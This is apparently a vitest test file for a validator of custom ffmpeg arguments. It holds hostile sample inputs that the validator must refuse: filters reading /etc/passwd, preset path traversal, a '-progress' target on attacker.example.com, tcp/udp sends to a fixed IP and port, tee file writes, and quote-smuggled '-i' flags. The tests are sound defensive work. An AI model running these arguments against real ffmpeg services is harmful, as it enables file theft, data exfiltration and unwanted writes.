import { describe, expect, it } from 'vitest';
import { readCustomArguments } from '../../../src/main/ffmpeg/custom-arguments.ts';

// The reference system's sixteen tests of its validator (frigate/test/test_export.py), with the same arguments, and what is beyond.

function message(text: string): string {
  const read = readCustomArguments(text);
  return read.isValid ? '' : read.message;
}

function words(text: string): readonly string[] {
  const read = readCustomArguments(text);
  return read.isValid ? read.words : [];
}

describe('allowed as in the reference system', () => {
  it.each([
    ['timelapse_setpts', ['-vf setpts=PTS/60 -r 25', '-vf setpts=0.04*PTS -r 30', '-filter:v setpts=PTS/60 -r 25']],
    ['default_input_args', ['', '-an -skip_frame nokey']],
    ['encoding_args', ['-c:v libx264 -crf 23 -preset fast', '-c:v copy -c:a copy', '-c:v libx264 -b:v 2M -maxrate 2M -bufsize 4M', '-movflags +faststart', '-pix_fmt yuv420p -r 30 -g 30']],
    ['safe_filters', ['-vf scale=640:480', '-vf scale=640:480,setpts=0.5*PTS', '-vf format=yuv420p', '-vf transpose=1', '-vf hflip', '-vf fps=15', '-vf setsar=1 -an', '-vf setdar=16/9']],
  ])('%s', (_, texts) => {
    for (const text of texts) expect([text, message(text)]).toEqual([text, '']);
  });
});

describe('refused as in the reference system', () => {
  const tooManyBrackets = `-vf ${'['.repeat(5_000)}`;
  it.each<[string, [string, string][]]>([
    ['reported_advisory', [['-filter:v drawtext=textfile=/etc/passwd:fontcolor=white:fontsize=20', 'File-reading filters are not allowed in custom ffmpeg arguments']]],
    ['file_reading_filters', [
      ['-vf movie=/etc/passwd', 'File-reading filters are not allowed in custom ffmpeg arguments'], ['-vf drawtext=textfile=/etc/passwd', 'File-reading filters are not allowed in custom ffmpeg arguments'],
      ['-vf subtitles=etc', 'Filter not allowed in custom ffmpeg arguments: subtitles'], ['-vf scale=movie=/etc/passwd', 'File-reading filters are not allowed in custom ffmpeg arguments'],
    ]],
    ['filtergraph_brackets', [['-vf [in]scale=640:480[out]', 'Invalid filter graph in custom ffmpeg arguments'], [tooManyBrackets, 'Invalid filter graph in custom ffmpeg arguments']]],
    ['preset_file_read', [['-fpre frigate/../../../etc/passwd', 'Forbidden ffmpeg argument: -fpre'], ['-fpre evil.preset', 'Forbidden ffmpeg argument: -fpre'], ['-vpre x', 'Forbidden ffmpeg argument: -vpre'], ['-apre x', 'Forbidden ffmpeg argument: -apre'], ['-pre x', 'Forbidden ffmpeg argument: -pre']]],
    ['slash_option_file_read', [['-/filter:v graph.txt', 'Forbidden ffmpeg argument: -/filter:v'], ['-/filter_complex graph.txt', 'Forbidden ffmpeg argument: -/filter_complex']]],
    ['schemeless_protocol', [['-f mpegts tcp:10.0.0.5:4444', 'Forbidden ffmpeg argument: -f'], ['tcp:10.0.0.5:4444', 'Unexpected argument in custom ffmpeg arguments: tcp:10.0.0.5:4444'], ['udp:10.0.0.5:4444', 'Unexpected argument in custom ffmpeg arguments: udp:10.0.0.5:4444'], ['-progress http:attacker.example.com:80/p', 'Forbidden ffmpeg argument: -progress']]],
    ['tee_write', [['-c:v libx264 -map 0 -f tee [f=mpegts]/tmp/owned.ts', 'Forbidden ffmpeg argument: -map'], ['-f tee [f=mpegts]/etc/frigate/x.ts', 'Forbidden ffmpeg argument: -f'], ['tee:/tmp/x', 'Unexpected argument in custom ffmpeg arguments: tee:/tmp/x']]],
    ['bare_output_token', [['evil.mp4', 'Unexpected argument in custom ffmpeg arguments: evil.mp4'], ['-c copy evil.mp4', 'Unexpected argument in custom ffmpeg arguments: evil.mp4'], ['x/../escaped.mkv', 'Unexpected argument in custom ffmpeg arguments: x/../escaped.mkv']]],
    ['file_producing_muxers', [['-f hls -hls_segment_filename pwn%03d.ts out.m3u8', 'Forbidden ffmpeg argument: -f'], ['-f md5 victim.txt', 'Forbidden ffmpeg argument: -f'], ['-f segment seg%03d.ts', 'Forbidden ffmpeg argument: -f']]],
    ['write_flags', [['-progress evil.log', 'Forbidden ffmpeg argument: -progress'], ['-stats_enc_pre evil.csv', 'Forbidden ffmpeg argument: -stats_enc_pre'], ['-report', 'Forbidden ffmpeg argument: -report']]],
    ['dos_input_flags', [['-stream_loop -1', 'Forbidden ffmpeg argument: -stream_loop'], ['-readrate 0.001', 'Forbidden ffmpeg argument: -readrate']]],
    ['disallowed_flags', [['-map 0', 'Forbidden ffmpeg argument: -map'], ['-i /etc/passwd', 'Forbidden ffmpeg argument: -i'], ['-attach evil.bin', 'Forbidden ffmpeg argument: -attach'], ['-dump_attachment evil.bin', 'Forbidden ffmpeg argument: -dump_attachment'], ['/etc/passwd', 'Unexpected argument in custom ffmpeg arguments: /etc/passwd'], ['-metadata comment=x', 'Forbidden ffmpeg argument: -metadata']]],
  ])('%s', (_, cases) => {
    for (const [text, expected] of cases) expect([text, message(text)]).toEqual([text, expected]);
  });

  it('with the other messages of its list', () => {
    expect(message('-crf')).toBe('Missing value for ffmpeg argument: -crf');
    expect(message('-vf')).toBe('Missing value for ffmpeg argument: -vf');
    expect(message('-crf -i')).toBe('Invalid value for -crf: -i');
    expect(message('-c:v a/b')).toBe('Invalid value for -c:v: a/b');
    expect(message('-vf scale=http://x')).toBe('Invalid filter graph in custom ffmpeg arguments');
    expect(message('-vf hflip,sendcmd=x')).toBe('Filter not allowed in custom ffmpeg arguments: sendcmd');
  });
});

describe('beyond the reference system', () => {
  it('understands quotes and any amount of space', () => {
    expect(words(`  -vf   'scale=640:480, hflip'\t-r "30"\n-c:v lib\\x264 `)).toEqual(['-vf', 'scale=640:480, hflip', '-r', '30', '-c:v', 'libx264']);
    expect(words(`-vf "setpts=0.5*PTS"`)).toEqual(['-vf', 'setpts=0.5*PTS']);
    expect(message('-vf "hflip')).toContain('Unexpected argument');
  });

  it('lets no quoting smuggle in what is refused', () => {
    for (const text of [`'-i' x`, `"-i" x`, `-\\i x`, `-crf "23 -i x"`, `-crf ''`, `-vf ''`, `'' x`, `-vf "hflip;movie=x"`, `-vf scale=\\/w=x`, `-vf scale=/w=graph`, `-vf "scale= /w=graph"`, `-vf setpts=/expr=graph`, `-vf "setpts='/expr'=graph"`, `-VF movie=x`, '-c: copy x', '-vf HFLIP,Movie=x']) {
      expect([text, message(text)]).not.toEqual([text, '']);
    }
  });

  it('takes linear time for hostile text', () => {
    const hostile = ['[', '"', "'", '\\', ' ', ',', ';', '=', ':', '-', '\\"', ':=', '= ', 'a,', '@'].flatMap((piece) => ['-vf ', '-crf ', ''].map((start) => start + piece.repeat(200_000)));
    const startedAt = performance.now();
    for (const text of hostile) message(text);
    expect(performance.now() - startedAt).toBeLessThan(hostile.length * 150);
  });
});
